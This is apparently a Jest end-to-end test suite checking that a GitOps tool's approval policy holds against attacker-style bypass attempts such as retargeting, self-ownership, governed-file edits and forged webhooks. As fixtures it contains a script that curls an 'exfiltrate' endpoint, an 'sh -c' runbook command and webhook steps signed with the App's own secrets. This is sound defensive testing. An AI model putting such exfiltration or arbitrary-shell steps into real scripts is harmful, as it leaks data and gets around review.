/**
 * The ways around the approval policy, each tried as an attacker would, through the GitHub double
 * with the real HAProxy: what the pull request says, and that nothing reached HAProxy.
 */
import { jest } from '@jest/globals';
import { drainTask, labConfig, labService, runCheckOf, startWorld, type World } from '../support/e2e-world.js';
import { eventually } from '../support/lab.js';
import { labWebhookSecret } from '../../lab/zeroops-on-lab.js';
import { webhookPath } from '../../src/main/server.js';

jest.setTimeout(300_000);

let world: World;
const github = () => world.lab.github!;
const weight = async (dc: string) =>
  Number((await world.lab.haproxy!.command(`get weight checkout_stable/${dc}`)).split(' ')[0]);
const comments = (number: number) =>
  github()
    .comments(number)
    .map((c) => c.body)
    .join('\n---\n');
const said = (number: number, mark: string) => eventually(() => comments(number).includes(mark), 30_000);
const checkOf = (number: number, name: string) =>
  github()
    .checkRuns(github().pull(number).head.sha)
    .filter((c) => c.name === name)
    .at(-1);
const finished = (task: string) => eventually(() => runCheckOf(world, task)?.status === 'completed', 90_000);
const serviceWith = (owners: string) => labService().replace('owners: [alice, bob]', `owners: [${owners}]`);

beforeAll(async () => {
  world = await startWorld();
  for (const user of ['dave', 'erin', 'frank']) github().setPermission(user, 'write');
  github().setTeam('acme/sre', ['erin']);
  // Installed with a team among the owners: the first pull request's base is the approved state.
  await github().pushBranch(
    'main',
    { 'services/checkout.yaml': serviceWith('alice, bob, acme/sre') },
    'Owners include the SRE team',
  );
});
afterAll(() => world?.stop());
beforeEach(async () => {
  for (const dc of ['dc-a', 'dc-b', 'dc-c']) await world.lab.haproxy!.command(`set weight checkout_stable/${dc} 100`);
});

/** Merge and wait for ZeroOps' answer on the pull request. */
async function mergeAndHear(number: number, mark: string, by = 'carol'): Promise<void> {
  await github().merge(number, by);
  expect(await said(number, mark)).toBe(true);
}

describe('execution only from the default branch', () => {
  it("executes nothing merged into another branch, whatever that branch's policy says", async () => {
    await github().pushBranch('sneaky', {
      '.zeroops/config.yaml': labConfig(world.lab).replace(
        'defaultApprovals: 1, requireOwner: true',
        'defaultApprovals: 0, requireOwner: false',
      ),
    });
    const { number } = await github().openPullRequest({
      title: 'sneaky',
      branch: 'sneaky-drain',
      base: 'sneaky',
      files: { 'tasks/sneaky.yaml': drainTask('drain-sneaky') },
      author: 'carol',
    });
    expect(checkOf(number, 'ZeroOps plan')?.summary).toContain(
      '⚠️ **Merging this pull request executes nothing**: `sneaky` is not the default branch `main`',
    );
    await mergeAndHear(number, '⛔');
    expect(comments(number)).toContain(
      "- any task: `sneaky` is not the default branch `main` and `main`'s config does not list it in spec.executeOn, so merging into it executes nothing",
    );
    expect(runCheckOf(world, 'drain-sneaky')).toBeUndefined();
    expect(await weight('dc-a')).toBe(100);
  });
});

describe('an approval is of a merge into one branch', () => {
  it('counts no approval given while the pull request merged into a branch that executes nothing', async () => {
    await github().pushBranch('dev', { 'notes/dev.md': 'dev\n' });
    const open = async (name: string) =>
      (
        await github().openPullRequest({
          title: name,
          branch: `${name}-branch`,
          base: 'dev',
          files: { [`tasks/${name}.yaml`]: drainTask(name) },
          author: 'carol',
        })
      ).number;
    // Heard: the pull request is planned again for main, and the approval given before does not count.
    const heard = await open('drain-retarget');
    await github().review(heard, 'alice', 'APPROVED');
    await github().retarget(heard, 'main', 'carol');
    const approval = checkOf(heard, 'ZeroOps approval');
    expect(approval?.conclusion).not.toBe('success');
    expect(approval?.summary).toContain('@alice approved before the pull request was moved to main');
    // Not heard (the webhook lost): the merge finds the approval was of a plan into dev.
    const unheard = await open('drain-unheard');
    await github().review(unheard, 'alice', 'APPROVED');
    await github().retarget(unheard, 'main', 'carol', true);
    await mergeAndHear(unheard, '⛔');
    expect(comments(unheard)).toContain('@alice approved the change while it merged into dev');
    expect(runCheckOf(world, 'drain-unheard')).toBeUndefined();
    expect(await weight('dc-a')).toBe(100);
  });
});

describe('owners come from the approved state', () => {
  it('does not let a pull request make its author, or its approver, an owner', async () => {
    const { number } = await github().openPullRequest({
      title: 'me too',
      branch: 'self-owner',
      author: 'carol',
      files: {
        'services/checkout.yaml': serviceWith('alice, bob, acme/sre, carol, dave'),
        'tasks/self-owner.yaml': drainTask('drain-self-owner'),
      },
    });
    await github().review(number, 'carol', 'APPROVED');
    await github().review(number, 'dave', 'APPROVED');
    expect(checkOf(number, 'ZeroOps approval')?.conclusion).toBe('action_required');
    expect(checkOf(number, 'ZeroOps plan')?.summary).toMatch(
      /`services\/checkout.yaml` \| modified: `spec.owners`: \["alice","bob","acme\/sre"\] → \["alice","bob","acme\/sre","carol","dave"\] \| `drain-self-owner`/,
    );
    await mergeAndHear(number, '⛔');
    expect(comments(number)).toContain(
      '`services/checkout.yaml`: an approval from an owner of service checkout: @alice, @bob, @acme/sre; not counted: @carol wrote the change',
    );
    expect(runCheckOf(world, 'drain-self-owner')).toBeUndefined();
    expect(await weight('dc-a')).toBe(100);
    // The unapproved owners stay on main but count for nothing: the next pull request carries them.
    const next = await github().openPullRequest({
      title: 'next',
      branch: 'after-self-owner',
      author: 'dave',
      files: { 'tasks/after-self-owner.yaml': drainTask('drain-after-self-owner') },
    });
    await github().review(next.number, 'carol', 'APPROVED');
    await mergeAndHear(next.number, '⛔', 'dave');
    // Carried from a merge without approval: its old owners and an admin must approve it, and not its author.
    expect(comments(next.number)).toContain(
      '- `services/checkout.yaml`: 1 more approval(s) (0 of 1); an approval from an owner of service checkout: @alice, @bob, @acme/sre; ' +
        `an approval from an admin or maintainer of the repository; not counted: @carol brought this change in with #${number}, merged without approval`,
    );
    expect(await weight('dc-a')).toBe(100);
    await restoreMain('services/checkout.yaml', serviceWith('alice, bob, acme/sre'));
  });

  it('counts a member of an owning team, and not a writer outside it', async () => {
    const byTeam = await github().openPullRequest({
      title: 'team',
      branch: 'team-drain',
      author: 'carol',
      files: { 'tasks/team.yaml': drainTask('drain-team') },
    });
    await github().review(byTeam.number, 'frank', 'APPROVED');
    expect(checkOf(byTeam.number, 'ZeroOps approval')?.summary).toContain(
      'an approval from an owner of service checkout: @alice, @bob, @acme/sre',
    );
    await github().review(byTeam.number, 'erin', 'APPROVED');
    expect(checkOf(byTeam.number, 'ZeroOps approval')?.conclusion).toBe('success');
    await mergeAndHear(byTeam.number, '🚀');
    expect(await finished('drain-team')).toBe(true);
    expect(runCheckOf(world, 'drain-team')?.conclusion).toBe('success');
    expect(await weight('dc-a')).toBe(0);
  });
});

describe('who wrote the change', () => {
  it('does not count the approval of whoever wrote commits pushed before the pull request was opened', async () => {
    // alice (an owner) writes the drain on a branch; dave opens the pull request of it; alice approves.
    await github().pushBranch('alice-drain', { 'tasks/alice.yaml': drainTask('drain-alice') }, 'Drain dc-a', 'alice');
    const { number } = await github().openPullRequest({
      title: 'drain by alice',
      branch: 'alice-drain',
      author: 'dave',
      files: { 'notes/alice.md': 'opened by dave\n' },
    });
    await github().review(number, 'alice', 'APPROVED');
    const approval = checkOf(number, 'ZeroOps approval');
    expect(approval?.conclusion).not.toBe('success');
    expect(approval?.summary).toContain('@alice pushed commits to the change');
    await github().review(number, 'bob', 'APPROVED');
    expect(checkOf(number, 'ZeroOps approval')?.conclusion).toBe('success');
  });
});

/** Put a governed file back as it was approved, so later tests start clean (a revert is no change to approve). */
async function restoreMain(path: string, text: string): Promise<void> {
  const { number } = await github().openPullRequest({
    title: `restore ${path}`,
    branch: `restore-${Date.now()}`,
    author: 'alice',
    files: { [path]: text },
  });
  expect(checkOf(number, 'ZeroOps plan')?.title).not.toContain('governed');
  await github().merge(number, 'alice');
}

describe('the files that govern execution are governed', () => {
  const cases: [area: string, path: string, text: () => string, original: () => Promise<string>][] = [
    [
      'config',
      '.zeroops/config.yaml',
      () =>
        labConfig(world.lab).replace(
          'defaultApprovals: 1, requireOwner: true',
          'defaultApprovals: 0, requireOwner: false',
        ),
      async () => labConfig(world.lab),
    ],
    ['services', 'services/checkout.yaml', () => serviceWith('carol'), async () => serviceWith('alice, bob, acme/sre')],
    [
      'templates',
      'templates/rolling-restart.yaml',
      () =>
        'apiVersion: zeroops.dev/v1\nkind: Template\nmetadata: { name: rolling-restart }\nspec:\n  kind: Restart\n  versions:\n    - version: 1\n      defaults: { batchSize: 3, interval: 1s }\n',
      () => mainFile('templates/rolling-restart.yaml'),
    ],
    [
      'scripts',
      'scripts/restart-instance.sh',
      () => '#!/bin/sh\ncurl -fsS http://127.0.0.1:9/exfiltrate\n',
      () => mainFile('scripts/restart-instance.sh'),
    ],
  ];

  it.each(cases)(
    'needs approval for a %s-only change, and its effect reaches no later pull request',
    async (area, path, text, original) => {
      const before = await original();
      const { number } = await github().openPullRequest({
        title: `${area} only`,
        branch: `${area}-only`,
        author: 'carol',
        files: { [path]: text() },
      });
      expect(checkOf(number, 'ZeroOps plan')).toMatchObject({
        conclusion: 'success',
        title: expect.stringContaining('1 governed file(s) changed'),
      });
      expect(checkOf(number, 'ZeroOps approval')).toMatchObject({
        conclusion: 'action_required',
        summary: expect.stringContaining(`\`change ${path}\` | ⏳ waiting`),
      });
      await mergeAndHear(number, '⛔');
      expect(comments(number)).toContain(`governed files changed without the approval they need, so \`main\` keeps`);
      // The next pull request is judged by the approved state and carries the change until someone may approve it.
      const next = await github().openPullRequest({
        title: `after ${area}`,
        branch: `after-${area}`,
        author: 'dave',
        files: { [`tasks/after-${area}.yaml`]: drainTask(`drain-after-${area}`) },
      });
      expect(checkOf(next.number, 'ZeroOps plan')?.summary).toContain(`| \`${path}\` |`);
      expect(checkOf(next.number, 'ZeroOps approval')?.summary).toContain(`\`change ${path}\` | ⏳ waiting`);
      await github().review(next.number, 'carol', 'APPROVED');
      await mergeAndHear(next.number, '⛔', 'dave');
      expect(comments(next.number)).toMatch(
        new RegExp(
          `- \`${path.replace(/[.*]/g, '\\$&')}\`: .*not counted: @carol brought this change in with #\\d+, merged without approval`,
        ),
      );
      expect(runCheckOf(world, `drain-after-${area}`)).toBeUndefined();
      expect(await weight('dc-a')).toBe(100);
      await restoreMain(path, before);
    },
  );

  it('drops an approval when a script the plan runs changes after it', async () => {
    const original = await mainFile('scripts/restart-instance.sh');
    const restart =
      'apiVersion: zeroops.dev/v1\nkind: Restart\nmetadata: { name: restart-script, service: checkout }\nspec:\n  datacenters: [dc-a]\n  batchSize: 1\n  interval: 1s\n';
    const { number } = await github().openPullRequest({
      title: 'restart',
      branch: 'restart-script',
      author: 'carol',
      files: { 'tasks/restart-script.yaml': restart },
    });
    await github().review(number, 'alice', 'APPROVED');
    expect(checkOf(number, 'ZeroOps approval')?.conclusion).toBe('success');
    await github().push(number, { 'scripts/restart-instance.sh': '#!/bin/sh\necho "something else"\n' }, 'carol');
    const approval = checkOf(number, 'ZeroOps approval')!;
    expect(approval.conclusion).toBe('action_required');
    expect(approval.summary).toContain('@alice approved an earlier plan of restart-script');
    expect(approval.summary).toContain('`change scripts/restart-instance.sh` | ⏳ waiting');
    await mergeAndHear(number, '⛔');
    expect(runCheckOf(world, 'restart-script')).toBeUndefined();
    await restoreMain('scripts/restart-instance.sh', original);
  });
});

describe('what a merged runbook may do', () => {
  const runbook = (name: string, params: string) =>
    `apiVersion: zeroops.dev/v1\nkind: Runbook\nmetadata: { name: ${name}, service: checkout }\nspec:\n  steps:\n    - { name: act, action: ${params} }\n`;

  it("refuses at plan time a webhook signed with the App's own secret or key", async () => {
    for (const variable of ['WEBHOOK_SECRET', 'PRIVATE_KEY']) {
      const { number } = await github().openPullRequest({
        title: variable,
        branch: `forge-${variable}`,
        author: 'carol',
        files: {
          'tasks/forge.yaml': runbook(
            'forge',
            `{ provider: webhook, operation: call, params: { url: "http://127.0.0.1:1/api/github/webhooks", secretEnv: ${variable} } }`,
          ),
        },
      });
      const plan = checkOf(number, 'ZeroOps plan')!;
      expect(plan.conclusion).toBe('failure');
      expect(plan.annotations).toContainEqual(
        expect.objectContaining({
          path: 'tasks/forge.yaml',
          start_line: 6,
          message: expect.stringContaining(`${variable} is one of ZeroOps' own credentials`),
        }),
      );
    }
  });

  it('refuses at plan time a command whose program is not a script of the repository', async () => {
    const { number } = await github().openPullRequest({
      title: 'shell',
      branch: 'shell',
      author: 'carol',
      files: {
        'tasks/shell.yaml': runbook(
          'shell',
          '{ provider: command, operation: run, params: { argv: [sh, -c, "echo pwned"] } }',
        ),
      },
    });
    const plan = checkOf(number, 'ZeroOps plan')!;
    expect(plan.conclusion).toBe('failure');
    expect(plan.annotations).toContainEqual(
      expect.objectContaining({
        path: 'tasks/shell.yaml',
        message: expect.stringContaining("'sh' is not a script of this repository"),
      }),
    );
    await github().review(number, 'alice', 'APPROVED');
    await mergeAndHear(number, '⛔');
    expect(runCheckOf(world, 'shell')).toBeUndefined();
  });

  it('applies the review rules to approve-step: not the author, not the last pusher', async () => {
    const gated =
      `apiVersion: zeroops.dev/v1\nkind: Runbook\nmetadata: { name: gated, service: checkout }\nspec:\n  steps:\n` +
      '    - { name: shift, approve: true, action: { provider: haproxy, operation: set-datacenter-weights, params: { pool: checkout_stable, weights: [{ datacenter: dc-a, percent: 50, normalWeight: 100 }] } } }\n';
    const { number } = await github().openPullRequest({
      title: 'gated',
      branch: 'gated',
      author: 'carol',
      files: { 'tasks/gated.yaml': gated },
    });
    await github().push(number, { 'tasks/gated.yaml': gated.replace('percent: 50', 'percent: 60') }, 'dave');
    await github().review(number, 'alice', 'APPROVED');
    await mergeAndHear(number, '🚀');
    expect(
      await eventually(
        () => /waiting for approval of step shift/.test(runCheckOf(world, 'gated')?.title ?? ''),
        30_000,
      ),
    ).toBe(true);
    await github().comment(number, 'carol', '/zeroops approve-step shift');
    await github().comment(number, 'dave', '/zeroops approve-step shift');
    expect(comments(number)).toContain(
      '@carol approving a step follows the review rules, and @carol wrote the change; nothing was done.',
    );
    expect(comments(number)).toContain(
      '@dave approving a step follows the review rules, and @dave pushed the last commit; nothing was done.',
    );
    await github().comment(number, 'frank', '/zeroops approve-step shift');
    expect(comments(number)).toContain(
      '@frank approving a step follows the review rules, and it needs an owner of service checkout: @alice, @bob, @acme/sre; nothing was done.',
    );
    // Refused: the run still waits for the step's approval, and nothing moved.
    expect(await weight('dc-a')).toBe(100);
    await github().comment(number, 'bob', '/zeroops approve-step shift');
    expect(await finished('gated')).toBe(true);
    expect(runCheckOf(world, 'gated')?.conclusion).toBe('success');
    expect(await weight('dc-a')).toBe(60);
  });
});

describe('a review of a commit ZeroOps had not planned', () => {
  it('counts at merge: the commit is planned then (here, its pull request was opened while ZeroOps was deaf)', async () => {
    const target = { url: `http://127.0.0.1:${world.runtime.port}${webhookPath}`, secret: labWebhookSecret };
    // The delivery goes nowhere ZeroOps listens (its answer: 404), as when ZeroOps is down.
    github().connectApp({ ...target, url: `${world.lab.prometheus!.url}/not-zeroops` });
    const { number, delivery } = await github().openPullRequest({
      title: 'unplanned',
      branch: 'unplanned',
      files: { 'tasks/unplanned.yaml': drainTask('drain-unplanned', '1s') },
      author: 'carol',
    });
    github().connectApp(target);
    expect(delivery.status).toBeGreaterThanOrEqual(400);
    expect(checkOf(number, 'ZeroOps plan')).toBeUndefined();
    await github().review(number, 'alice', 'APPROVED');
    await mergeAndHear(number, '🚀');
    expect(await finished('drain-unplanned')).toBe(true);
    expect(runCheckOf(world, 'drain-unplanned')?.conclusion).toBe('success');
  });
});

describe('change windows', () => {
  /** A change to the config, approved as it must be (an admin), so it becomes the approved policy. */
  async function approvedConfig(windows: string): Promise<void> {
    const config = `${labConfig(world.lab)}  windows:\n${windows}`;
    const { number } = await github().openPullRequest({
      title: 'windows',
      branch: `windows-${Date.now()}`,
      author: 'carol',
      files: { '.zeroops/config.yaml': config },
    });
    await github().review(number, 'bob', 'APPROVED');
    expect(checkOf(number, 'ZeroOps approval')?.conclusion).toBe('success');
    await github().merge(number, 'carol');
    expect(
      await eventually(
        async () =>
          (await world.runtime.store.approvedState('acme/ops@main'))?.sha === github().pull(number).mergeCommitSha,
        20_000,
      ),
    ).toBe(true);
  }

  /** A fixed-offset zone in which it is now `hour` o'clock. */
  const zoneAt = (hour: number) => {
    const offset = (hour - new Date().getUTCHours() + 24) % 24;
    return offset <= 14 ? `Etc/GMT-${offset}` : `Etc/GMT+${24 - offset}`;
  };
  const allDays = '[mon, tue, wed, thu, fri, sat, sun]';

  it('runs inside a window that crosses midnight, and shows the window on the plan', async () => {
    await approvedConfig(
      `    - { name: night, days: ${allDays}, from: "22:00", to: "06:00", timezone: ${zoneAt(1)} }\n`,
    );
    const { number } = await github().openPullRequest({
      title: 'night',
      branch: 'night',
      author: 'carol',
      files: { 'tasks/night.yaml': drainTask('drain-night') },
    });
    expect(checkOf(number, 'ZeroOps plan')?.summary).toMatch(
      /🕒 \*\*production\*\*: change window "night" mon,tue,wed,thu,fri,sat,sun 22:00-06:00 Etc\/GMT[-+]\d+ \(ends the next day\): open now/,
    );
    expect(checkOf(number, 'ZeroOps approval')?.summary).toContain('🕒 **production**');
    await github().review(number, 'alice', 'APPROVED');
    await mergeAndHear(number, '🚀');
    expect(await finished('drain-night')).toBe(true);
    expect(await weight('dc-a')).toBe(0);
  });

  it('schedules a merge outside the window for its opening, and lets /zeroops abort cancel one', async () => {
    const now = new Date(Date.now() + (new Date().getUTCSeconds() > 30 ? 120_000 : 60_000));
    const zone = zoneAt(12);
    const local = (d: Date) =>
      `${String((d.getUTCHours() + 12 - new Date().getUTCHours() + 24) % 24).padStart(2, '0')}:${String(d.getUTCMinutes()).padStart(2, '0')}`;
    const opens = local(now);
    await approvedConfig(
      `    - { name: soon, days: ${allDays}, from: "${opens}", to: "${local(new Date(now.getTime() + 30 * 60_000))}", timezone: ${zone} }\n`,
    );
    const later = await github().openPullRequest({
      title: 'later',
      branch: 'later',
      author: 'carol',
      files: { 'tasks/later.yaml': drainTask('drain-later') },
    });
    expect(checkOf(later.number, 'ZeroOps plan')?.summary).toContain('closed now; a merge runs when it next opens');
    await github().review(later.number, 'alice', 'APPROVED');
    await mergeAndHear(later.number, '🕒 Scheduled');
    expect(runCheckOf(world, 'drain-later')?.title).toMatch(
      /^pending: scheduled: starts at \S+, when it may \(merged outside the change windows/,
    );
    expect(await weight('dc-a')).toBe(100);

    const cancelled = await github().openPullRequest({
      title: 'cancelled',
      branch: 'cancelled',
      author: 'carol',
      files: { 'tasks/cancelled.yaml': drainTask('drain-cancelled') },
    });
    await github().review(cancelled.number, 'alice', 'APPROVED');
    await mergeAndHear(cancelled.number, '🕒 Scheduled');
    await github().comment(cancelled.number, 'alice', '/zeroops abort');
    expect(await eventually(() => runCheckOf(world, 'drain-cancelled')?.conclusion === 'cancelled', 20_000)).toBe(true);

    // The window opens up to two minutes after the test began: wait from then, not from now.
    const laterRun = (await world.runtime.store.runs({ pullNumber: later.number }))[0]!;
    const untilOpen = Math.max(0, Date.parse(laterRun.startAt!) - Date.now());
    expect(await eventually(() => runCheckOf(world, 'drain-later')?.status === 'completed', untilOpen + 90_000)).toBe(
      true,
    );
    expect(runCheckOf(world, 'drain-later')?.conclusion).toBe('success');
    const run = (await world.runtime.store.runs({ pullNumber: later.number }))[0]!;
    expect(run.steps[0]!.startedAt! >= run.startAt!).toBe(true);
    expect(await weight('dc-a')).toBe(0);
  });
});

async function mainFile(path: string): Promise<string> {
  const sha = (await github().state.git.resolve('main'))!;
  const entry = (await github().state.git.tree(sha)).find((e) => e.path === path)!;
  return (await github().state.git.blob(entry.sha))!.toString('utf8');
}
